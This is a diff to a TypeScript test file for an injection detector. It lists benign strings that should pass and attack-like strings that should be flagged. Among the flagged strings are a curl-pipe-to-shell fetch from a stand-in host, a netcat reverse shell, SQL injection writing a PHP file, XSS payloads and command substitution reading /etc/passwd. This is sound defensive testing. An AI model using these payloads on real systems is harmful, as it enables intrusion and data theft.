@@ -16,6 +16,15 @@ describe('residualMask: benign triggers are dismissed locally', () => {
     "it's late; see you :) tomorrow ;)",
     'a (quick) note, *really*',
     'emoji 🎂🎉🚀 and café, naïve, €35, 20°, 5 – 6',
+    'She said "it\'s fine" but left',
+    '"Bring a friend, if you have one." -- Winston Churchill',
+    'I replied, "They used to say the same thing about drugs."',
+    "In Oz, never say 'krizzle kroo' to a Woozy.",
+    'Is 5 > 3 or 9 < 12 here?',
+    '> quoted reply from before',
+    'The fix is in `src/app.ts`: we were not awaiting it',
+    'option (b), ($120 vs $180), (~2x) faster',
+    "back to work; who's reviewing?",
   ])('%s', (s) => {
     expect(residualMask(s)).toBe(0)
   })
@@ -41,8 +50,39 @@ describe('residualMask: benign triggers are dismissed locally', () => {
     ['𝐬𝐞𝐥𝐞𝐜𝐭 1', M.NONASCII],
     ['ſelect', M.NONASCII],
     ['sel\u200bect', M.NONASCII],
+    ['"whoami"', M.QUOTE],
+    ["1 into outfile 'asd'", M.QUOTE],
+    ['"x" or "y"', M.QUOTE],
+    ["admin' -- ", M.QUOTE],
+    ['"abc"#', M.QUOTE],
+    ["it's' x", M.QUOTE],
+    ["w'h'o'am'i", M.QUOTE],
+    ['"><svg onload=1>', M.QUOTE],
+    ['cat < /etc/passwd', M.LT],
+    ['sort < data', M.LT],
+    ['x > out.php', M.GT],
+    ['see `id` now', M.BACKTICK],
+    ['run `cat /etc/passwd`', M.BACKTICK],
+    ['from `information_schema`.tables', M.BACKTICK],
+    ['`$(whoami)`', M.BACKTICK],
+    ['a`id`b', M.BACKTICK],
+    ['x (timeout 5)', M.PAREN],
   ] as [string, number][])('keeps %s', (s, bit) => {
     expect(residualMask(s) & bit).toBe(bit)
+  })
+
+  it('pairs quotation marks: a closing mark needs its opening', () => {
+    expect(residualMask('fine" and more') & M.QUOTE).toBe(M.QUOTE)
+    expect(residualMask('"fine" but more')).toBe(0)
+    expect(residualMask('"fine\' and more') & M.QUOTE).toBe(M.QUOTE)
+  })
+
+  it('reads only the range it is given', () => {
+    const json = '{"a":"Tom & Jerry ok","b":"x; whoami"}'
+    expect(residualMask(json, 6, 20)).toBe(0)
+    expect(residualMask(json, 27, 36) & M.SEMI).toBe(M.SEMI)
+    // past the range is the closing quote of a JSON string: it only ever keeps a trigger
+    expect(residualMask('{"a":"Tom &","b":"Jerry"}', 6, 11) & M.AMP).toBe(M.AMP)
   })
 
   it('names a leading command like maybeCommand does', () => {
@@ -62,6 +102,12 @@ describe('the line-rate pass keeps detection', () => {
     'look at this: curl https://evil.example/x.sh | sh',
     "o'clock' union select password from users--",
     '$9.99 | nc -e /bin/sh 10.0.0.1 4444',
+    'admin" -- ',
+    "\"Bring a friend\" or 'a'='a",
+    '`whoami`',
+    '"x";alert(1)//',
+    "so 1 into outfile '/var/www/x.php' ok",
+    'sure; who -a',
   ])('still flags %s', (s) => {
     expect(d.first(s)).not.toBeNull()
   })
